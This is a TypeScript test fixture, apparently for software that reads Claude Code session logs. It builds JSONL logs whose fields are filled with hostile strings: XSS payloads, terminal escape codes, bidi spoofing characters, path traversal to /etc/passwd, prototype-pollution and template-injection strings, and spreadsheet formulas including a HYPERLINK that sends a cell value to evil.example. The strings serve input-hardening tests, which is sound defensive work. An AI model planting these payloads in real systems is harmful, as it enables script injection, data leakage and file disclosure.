/** Names as nobody honest has them, and logs that are full of them. */
import { assistant, limitHit, logText } from './lines.ts';

export const EVIL_NAMES: Readonly<Record<string, string>> = {
  markup: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>',
  closing: '"></title></style></script><svg onload=window.pwned=1>',
  terminal: '\u001b[2J\u001b[31m\u001b]0;pwned\u0007\u009b31m\u0008\u007f',
  direction: '/Users/ada/\u202egpj.exe\u2066\u200f\u200b\u2028\u2029\ufeff',
  zero: '/Users/ada\u0000/x\ny\r\tz',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  plus: '+1+1',
  minus: '-1-1',
  at: '@SUM(A1:A9)',
  'formula after a separator': 'x;=1+1',
  traversal: '../../../../../../etc/passwd',
  device: '/dev/zero',
  address: 'file:///etc/passwd',
  prototype: '__proto__',
  template: '${process.exit(7)}{{constructor.constructor("return 1")()}}',
  long: `/${'long'.repeat(2_500_000)}`,
};

/** The folder in which Claude Code keeps the sessions of a project. */
export function projectFolder(path: string): string {
  return path.replaceAll(/[^A-Za-z0-9]/g, '-').slice(0, 200);
}

/** A log per name, in which everything that may be any text is that name: responses, a limit hit, what a user wrote. */
export function hostileLogs(names: Readonly<Record<string, string>>, at: string): Record<string, string> {
  const logs = Object.entries(names).map(([kind, name], i) => {
    const lines = [
      assistant({ id: `msg_${i}_cwd`, at, cwd: name }),
      assistant({ id: `msg_${i}_session`, at, session: name }),
      assistant({ id: `msg_${i}_version`, at, version: name }),
      assistant({ id: `msg_${i}_model`, at, model: name }),
      assistant({ id: name, uuid: name, at }),
      limitHit(`5-hour limit reached ∙ resets ${name}`, { at, uuid: `hit_${i}` }),
      { type: 'user', message: { role: 'user', content: name }, timestamp: at },
    ];
    return [`.claude/projects/${projectFolder(name)}/${kind.replaceAll(' ', '-')}.jsonl`, logText(...lines)];
  });
  return Object.fromEntries(logs) as Record<string, string>;
}
